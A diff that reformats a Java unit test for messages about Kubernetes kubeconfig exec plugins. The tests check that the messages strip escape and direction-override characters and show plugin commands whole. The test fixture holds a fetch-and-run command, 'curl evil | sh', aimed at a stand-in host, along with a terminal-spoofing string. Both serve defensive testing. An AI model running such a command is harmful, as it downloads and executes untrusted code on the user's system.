@@ -20,7 +20,13 @@ class ClusterWordsTest {
   private static final String X = "\u001b[31mx\n\u202e";
   private static final ExecPlugin PLUGIN =
       new ExecPlugin(
-          Path.of("/evidence/config"), "v1", "sh", List.of("-c", "curl evil | sh"), Map.of("A", X), X, false);
+          Path.of("/evidence/config"),
+          "v1",
+          "sh",
+          List.of("-c", "curl evil | sh"),
+          Map.of("A", X),
+          X,
+          false);
 
   private static List<Trouble> all() {
     List<Trouble> all = new ArrayList<>();
@@ -57,9 +63,8 @@ class ClusterWordsTest {
     List<String> sentences = all().stream().map(ClusterWords::trouble).toList();
     assertThat(sentences).doesNotHaveDuplicates();
     assertThat(sentences)
-        .allSatisfy(
-            sentence ->
-                assertThat(sentence).doesNotContain("\u001b", "\n", "\u202e").matches(".*[.?]"));
+        .allSatisfy(sentence ->
+            assertThat(sentence).doesNotContain("\u001b", "\n", "\u202e").matches(".*[.?]"));
   }
 
   @Test
@@ -67,7 +72,11 @@ class ClusterWordsTest {
     assertThat(
             KubeconfigWords.problem(
                 new KubeconfigProblem(
-                    Path.of("/x/config"), 3, "users[2]", KubeconfigProblem.Cause.WRONG_TYPE, "list")))
+                    Path.of("/x/config"),
+                    3,
+                    "users[2]",
+                    KubeconfigProblem.Cause.WRONG_TYPE,
+                    "list")))
         .isEqualTo("/x/config, line 3 (users[2]): a list is expected here. Correct the entry.");
   }
 
@@ -75,7 +84,8 @@ class ClusterWordsTest {
   void thePluginIsShownWholeAndAsItWouldBeRun() {
     assertThat(ClusterWords.command(PLUGIN)).endsWith("sh -c 'curl evil | sh'");
     ExecPlugin longOne =
-        new ExecPlugin(Path.of("c"), "v1", "sh", List.of("x".repeat(5000) + "END"), Map.of(), "", false);
+        new ExecPlugin(
+            Path.of("c"), "v1", "sh", List.of("x".repeat(5000) + "END"), Map.of(), "", false);
     assertThat(ClusterWords.command(longOne)).endsWith("END");
     assertThat(ClusterWords.trouble(new Trouble.NotConfirmed(PLUGIN, KubeContext.Origin.EVIDENCE)))
         .contains("lies in evidence", "It was not run", PLUGIN.fingerprint().substring(0, 12));
@@ -91,7 +101,6 @@ class ClusterWordsTest {
   }
 
   private static String skew(Duration ahead) {
-    return ClusterWords.skew(
-        new Greeting("u", List.of(), "v1", Greeting.Practice.NO, "", ahead));
+    return ClusterWords.skew(new Greeting("u", List.of(), "v1", Greeting.Practice.NO, "", ahead));
   }
 }
